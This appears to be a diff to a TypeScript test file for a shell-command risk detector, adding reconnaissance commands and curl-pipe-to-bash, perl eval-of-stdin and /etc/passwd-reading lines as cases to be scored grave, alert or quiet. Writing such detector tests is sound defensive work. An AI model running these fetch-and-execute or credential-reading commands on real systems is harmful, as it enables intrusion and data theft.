@@ -10,6 +10,11 @@ import { makeTreeEvents, type WayIn } from './make_tree_events';
 type Line = readonly [WayIn, string];
 
 const GRAVE: readonly Line[] = [
+  ['argv', 'cat /etc/os-release /etc/lsb-release'],
+  ['argv', 'find /home -name touch'],
+  ['eval', 'ip a'],
+  ['sh', 'du -sh /home'],
+  ['sh', 'sudo netstat -antp'],
   ['argv', '7z a /tmp/a.7z /var/www'],
   ['argv', '7z a a.7z b'],
   ['argv', 'aa-disable /usr/sbin/nginx'],
@@ -154,6 +159,12 @@ const GRAVE: readonly Line[] = [
 ];
 
 const ALERTS: readonly Line[] = [
+  ['argv', '/bin/uname -a'],
+  ['argv', '/sbin/route -n'],
+  ['argv', 'ls /srv/a /srv/b'],
+  ['argv', 'ps -A'],
+  ['eval', 'ls /opt/x'],
+  ['sh', 'sudo who'],
   ['argv', '/etc/init.d/ssh start'],
   ['argv', 'arp'],
   ['argv', 'curl http://attacker.example/x'],
@@ -182,6 +193,9 @@ const ALERTS: readonly Line[] = [
 ];
 
 const QUIET: readonly Line[] = [
+  ['argv', 'ip tunnel show tun0'],
+  ['sh', 'df -h && free -m && uptime && lscpu'],
+  ['sh', 'ps aux --sort=-%mem'],
   ['argv', 'deno run --allow-read /srv/app/job.ts'],
   ['argv', 'nsjail -Mo --chroot / -- /bin/true'],
   ['sh', "echo 'a b' | md5sum"],
@@ -341,8 +355,35 @@ const QUIET: readonly Line[] = [
   ['sh', "grep -q '^nginx:' /etc/passwd"],
 ];
 
+const NOT_GRAVE: readonly Line[] = [
+  ['argv', 'find . -name *.py'],
+  ['argv', 'ip tunnel'],
+  ['argv', 'ls -1 /opt'],
+  ['argv', 'ps -C root'],
+  ['eval', 'ls'],
+  ['eval', 'ls /opt'],
+  ['sh', 'ls /opt | sort'],
+  ['sh', 'ls /tmp /srv/app'],
+  ['sh', 'ls conf | sort'],
+  ['sh', 'ls | sort'],
+  ['sh', 'ps aux; cat /srv/a | grep root'],
+  ['sh', 'test -d a && ls'],
+];
+
 /** Where others make the risk as high without it. */
 const SEEN: readonly (readonly [SignId, ...Line])[] = [
+  ['download_run', 'eval', 'curl -s https://api.example.org/x | bash -s'],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | python3 -W json.tool'],
+  [
+    'download_run',
+    'sh',
+    "curl -s https://api.example.org/x | python3 -c 'import sys;print(sys.stdin.read())'",
+  ],
+  [
+    'download_run',
+    'sh',
+    `curl -s https://api.example.org/x | perl -e 'print "json"' -e 'eval <STDIN>'`,
+  ],
   ['account_file_read', 'sh', 'ruby -e \'puts File.read("/etc/passwd")\''],
   ['callback', 'sh', 'curl -s https://pastebin.com/raw/abc | bash'],
   ['code_server', 'sh', 'php /tmp/x.php'],
@@ -459,6 +500,14 @@ const SEEN: readonly (readonly [SignId, ...Line])[] = [
 ];
 
 const NOT_SEEN: readonly (readonly [SignId, ...Line])[] = [
+  ['archive_sent', 'eval', 'cat -; curl -s https://api.example.org/x'],
+  ['archive_sent', 'eval', 'tar czf /srv/a.tgz /srv/a; curl -s https://api.example.org/x'],
+  ['decoded_text', 'argv', 'openssl dgst -d /srv/a'],
+  ['download_run', 'eval', 'curl -s https://api.example.org/x; php /srv/app/a.php'],
+  ['download_run', 'eval', 'curl -s https://api.example.org/x; sort'],
+  ['encoded_command', 'sh', 'base64 -d a | sort; cat b | sh'],
+  ['encoded_command', 'sh', 'ls -d /srv/* | sh'],
+  ['hidden_words', 'argv', `php -r 'echo "\\x41\\x42";'`],
   ['answer_kept', 'sh', 'uptime > /srv/app/o.txt'],
   ['answer_kept', 'sh', 'whoami 2> /srv/o'],
   ['answer_kept', 'sh', 'whoami > /dev/null'],
@@ -505,6 +554,10 @@ test.each(GRAVE)('grave: %s %s', (...line) => {
 
 test.each(ALERTS)('an alert: %s %s', (...line) => {
   expect(toRisk(line)).toBeGreaterThanOrEqual(ALERT_RISK);
+});
+
+test.each(NOT_GRAVE)('not grave: %s %s', (...line) => {
+  expect(toRisk(line)).toBeLessThan(GRAVE_RISK);
 });
 
 test.each(QUIET)('no alert: %s %s', (...line) => {
